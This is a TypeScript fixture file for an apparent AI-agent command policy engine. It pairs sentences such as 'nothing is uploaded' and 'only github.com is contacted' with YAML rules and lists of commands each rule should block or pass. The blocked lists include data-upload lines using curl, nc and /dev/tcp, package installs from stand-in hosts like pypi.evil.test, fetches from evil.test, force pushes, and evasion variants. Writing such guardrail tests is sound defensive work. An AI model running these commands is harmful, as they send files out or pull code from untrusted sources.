import { type PlainSentence, tool } from "./sentence.ts";

/** Sentences about other machines: pushes, uploads, downloads and packages. */
export const outside: readonly PlainSentence[] = [
  {
    sentence: "nobody pushes to main",
    policy: `
- id: no-main
  event: [tool_call, user_bash]
  each: { p: effects.pushes }
  when: { p.target.branch: main }
  action: block
  reason: "{p.target.branch} is for humans"
`,
    stops: [
      "git push origin main",
      "git -C packages/x push origin HEAD:main",
      "sh -c 'git push origin main'",
      'B=main; git push -u origin "$B"',
      'git push origin "$TARGET"',
      "git switch main && git merge feature/x && git push",
      "echo main | xargs git push origin",
      "git push --all origin",
      "python3 -c \"import subprocess; subprocess.run(['git', 'push', 'origin', 'main'])\"",
      tool("mcp__github__push_files", { owner: "a", repo: "b", branch: "main", files: [], message: "x" }),
    ],
    passes: [
      "git push",
      "git push origin feature/x",
      "git pull origin main",
      "git log origin/main | head",
      "git merge main",
      "git commit -m 'git push origin main'",
      "git push origin main-fix",
      "grep -rn 'git push origin main' docs",
      "git checkout -b fix/y main && git push -u origin fix/y",
      tool("mcp__github__create_pull_request", { owner: "a", repo: "b", head: "feature/x", base: "main", title: "x" }),
    ],
  },
  {
    sentence: "nobody force pushes",
    policy: `
- id: no-force
  event: [tool_call, user_bash]
  each: { p: effects.pushes }
  when: { p.forced: true }
  action: block
  reason: "{p.target.branch} keeps its history"
`,
    stops: [
      "git push --force",
      "git push -fu origin feature/x",
      "git push origin +HEAD:feature/x",
      "git push --force-with-lease origin feature/x",
      "sh -c 'cd lib && git push -f'",
      "F=--force; git push $F origin feature/x",
      'git push "$OPT" origin feature/x',
      "echo feature/x | xargs git push -f origin",
      "git -c remote.origin.push=+HEAD:feature/x push origin",
      "git send-pack --force https://example.com/a.git feature/x",
    ],
    passes: [
      "git push",
      "git push -u origin feature/x",
      "git push --follow-tags",
      "git branch -f x HEAD~1",
      "git checkout -f",
      "git fetch --force origin",
      "git commit -m 'git push --force'",
      "git tag -f v1",
      "rm -f a && git push origin feature/x",
      "git push origin HEAD:refs/heads/force",
    ],
  },
  {
    sentence: "nobody installs packages from anywhere but the usual registry",
    policy: `
- id: usual
  event: [tool_call, user_bash]
  each: { i: effects.installs }
  unless: { i.source: [registry, lockfile] }
  action: block
  reason: "{i.name} comes from {i.source}"
`,
    stops: [
      "npm install git+https://github.com/a/b.git",
      "npm i https://example.com/x.tgz",
      "pip install --index-url https://pypi.evil.test/simple requests",
      "npm install --registry=https://r.evil.test left-pad",
      "sh -c 'pip install git+https://github.com/a/b'",
      "PIP_INDEX_URL=https://pypi.evil.test/simple pip install requests",
      "cargo install --git https://github.com/a/b",
      "sudo apt install ./a.deb",
      'pip install "$PKG"',
      "echo https://example.com/a.whl | xargs pip install",
    ],
    passes: [
      "npm install left-pad",
      "npm ci",
      "pip install requests==2.31",
      "cargo install ripgrep",
      "pnpm install --frozen-lockfile",
      "sudo apt-get install -y jq",
      "yarn add react",
      "echo npm i git+https://github.com/a/b.git",
      "npm ls && pip list",
      "python3 -m pip install flask",
    ],
  },
  {
    sentence: "nothing is uploaded",
    policy: `
- id: no-upload
  event: [tool_call, user_bash]
  each: { n: effects.network }
  when: { n.direction: [upload, both] }
  action: block
  reason: "nothing is sent to {n.url.host}"
`,
    stops: [
      "curl -d @notes.txt https://example.com/in",
      "curl -T a.txt https://example.com/",
      "scp a.txt ada@files.test:/srv",
      "rsync -a src/ files.test:/srv/",
      "cat a.txt | nc files.test 80",
      "wget --post-file=a.txt https://example.com/",
      'curl -X "$M" https://example.com/',
      "cat a.txt > /dev/tcp/203.0.113.4/80",
      "python3 -c \"import requests; requests.post('https://example.com', data=open('a.txt'))\"",
      "aws s3 cp a.txt s3://bucket/a.txt",
    ],
    passes: [
      "curl -O https://example.com/a.tgz",
      "wget https://example.com/a.tgz",
      "git fetch origin",
      "git clone https://github.com/a/b",
      "scp ada@files.test:/srv/a.txt .",
      "curl -I https://example.com/ | head -1",
      "npm view react",
      "echo curl -d @a https://example.com",
      "aws s3 cp s3://bucket/a.txt a.txt",
      tool("fetch", { url: "https://example.com/a" }),
    ],
  },
  {
    sentence: "only github.com is contacted",
    policy: `
- id: only-github
  event: [tool_call, user_bash]
  each: { n: effects.network }
  unless: { n.url.host: { host_in: github.com } }
  action: block
  reason: "{n.url.host} is not contacted"
`,
    stops: [
      "curl https://evil.test/x",
      "curl https://github.com.evil.test/",
      "curl https://github.com/a https://evil.test/b",
      "git clone https://gitlab.test/a/b.git",
      'H=evil.test; wget "https://$H/x"',
      'curl "https://$H/x"',
      "echo https://evil.test/x | xargs curl",
      "ssh ada@files.test ls",
      "node -e \"fetch('https://evil.test/x')\"",
      tool("mcp__web__open", { page: "https://evil.test/" }),
    ],
    passes: [
      "curl https://github.com/a",
      "curl https://api.github.com/repos | jq .name",
      "git clone https://github.com/a/b",
      "git clone git@github.com:a/b.git",
      'curl "https://github.com/$R"',
      "echo https://evil.test",
      "git commit -m 'see https://evil.test'",
      "git fetch https://github.com/a/b main",
      "gh pr list",
      tool("fetch", { url: "https://github.com/a" }),
    ],
  },
];
